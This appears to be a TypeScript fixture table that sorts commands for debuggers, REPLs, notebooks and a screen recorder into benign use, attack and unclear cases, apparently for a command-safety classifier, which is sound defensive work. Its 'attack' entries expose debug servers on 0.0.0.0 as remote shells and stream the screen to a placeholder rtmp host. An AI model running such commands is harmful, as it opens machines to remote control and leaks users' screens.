import type { ExampleTable } from './example.ts'

/** Debuggers, consoles and recorders: for oneself, and for whoever connects. */
export const openDoors: ExampleTable = {
  gdbserver: {
    use: 'gdbserver localhost:2345 ./app → listen localhost:2345',
    attack: 'gdbserver 0.0.0.0:2345 ./app → remote-shell 0.0.0.0:2345',
    unclear: 'gdbserver :2345 ./app → whoever connects to it',
  },
  dlv: {
    attack: 'dlv debug --headless --listen=0.0.0.0:2345 → remote-shell --listen=0.0.0.0:2345',
    unclear: 'dlv debug --headless --listen=:2345 → whoever connects to it',
  },
  lein: {
    attack: 'lein repl :headless :host 0.0.0.0 → remote-shell repl :headless :host 0.0.0.0',
  },
  marimo: {
    attack: 'marimo edit --host 0.0.0.0 --no-token → remote-shell edit --host 0.0.0.0',
    unclear: 'marimo edit --no-token → who comes in by it',
  },
  'gpu-screen-recorder': {
    use: 'gpu-screen-recorder --version → nothing',
    attack:
      'gpu-screen-recorder -w screen -f 30 -o rtmp://live.example.org/a → send rtmp://live.example.org/a',
    unclear: 'gpu-screen-recorder -w screen -f 30 -o a.mp4 → whom it listens to or looks at',
  },
}
